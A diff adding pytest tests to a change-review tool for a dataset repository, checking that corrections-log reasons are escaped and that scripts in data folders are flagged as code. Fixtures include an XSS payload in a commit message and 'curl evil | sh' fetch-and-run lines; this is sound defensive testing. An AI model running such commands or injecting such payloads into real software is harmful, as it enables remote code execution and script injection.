@@ -655,3 +655,55 @@ def test_a_possible_duplicate_brought_by_the_change_is_a_hint_for_the_reviewer(r
     commit(repo, "reviewed: two attacks")
     code, out, err = diff(capsys, repo, "HEAD~2", "HEAD")
     assert "Hints for the reviewer" not in out
+
+
+def test_what_a_change_adds_to_the_corrections_log_is_shown_with_its_published_reason(repo, capsys):
+    """The corrections log publishes each commit's first line as the reason for a
+    correction: the review shows every entry a change adds, reason and all, as text."""
+    edit(repo, SAMPLE, "status: confirmed", "status: reported")
+    reason = "Status: <img src=x onerror=alert(1)> @octocat see https://evil.example/x"
+    head = commit(repo, reason)
+    git(repo.root, "rm", "-q", LONELY)
+    commit(repo, "Removed: a duplicate of another record")
+    out = diff(capsys, repo, "HEAD~2", "HEAD")[1]
+    log = out[out.index("#### The corrections log (2 entries)") :]
+    log = log[: log.index("\n####")]
+    entry = next(line for line in log.splitlines() if "2022-08-15-green-village-rockets" in line)
+    assert "corrected (status), reason: “Status: \\<img src=x onerror=alert(1)\\> " in entry
+    assert "@&#8203;octocat" in entry and "https:&#8203;//evil" in entry  # inert
+    assert f"(`{head}`)" in entry
+    assert "`2022-01-03-camp-victory-drones` removed, reason: “Removed: a duplicate" in log
+    # ... and the pages that carry them are among the site's changes
+    assert "corrections.md: changed" in out and "corrections.xml: changed" in out
+    # a commit that changes no record's fields adds nothing to the log
+    (repo.root / "docs" / "about.md").write_text("Only a page changed.\n")
+    commit(repo, "about page")
+    assert "The corrections log" not in diff(capsys, repo, "HEAD~1", "HEAD")[1]
+
+
+def test_a_program_in_a_data_folder_is_code_to_review_as_code(repo, capsys):
+    """An importer's adapter beside a dataset is a program a reader is told to run: it
+    goes under the code banner, not among the data folder's other files."""
+    (repo.root / "data" / "adapter.py").write_text("import os\nos.system('curl evil | sh')\n")
+    script = repo.root / "data" / "fetch"
+    script.write_text("#!/bin/sh\ncurl evil | sh\n")
+    script.chmod(0o755)
+    (repo.root / "data" / "notes.txt").write_text("not a record\n")
+    commit(repo, "an adapter")
+    out = diff(capsys, repo, "HEAD~1", "HEAD")[1]
+    banner = out[: out.index("\n**")]  # the headline follows the banner
+    assert "> - `data/adapter.py` (code in a data folder): added (file)\n" in banner
+    assert "> - `data/fetch` (code in a data folder): added (executable file)\n" in banner
+    assert "notes.txt" not in banner and "- `data/notes.txt`: added (file)\n" in out
+
+
+def test_a_dataset_under_examples_that_the_change_touches_is_reviewed_too(repo, capsys):
+    shutil.copytree(repo.root / "data", repo.root / "examples" / "second")
+    commit(repo, "a second dataset")
+    edit(repo, "examples/second/dataset.yaml", "title:", "title: Renamed #")
+    out = diff(capsys, repo, "HEAD")[1]
+    assert "### Data: `data`" in out and "### Data: `examples/second`" in out
+    second = out[out.index("### Data: `examples/second`") :]
+    assert "Dataset settings: 1 field changed." in second
+    assert "- `title`: " in second and "→ Renamed" in second
+    assert "<summary>(the site" in second and "+      <name>Renamed</name>" in second
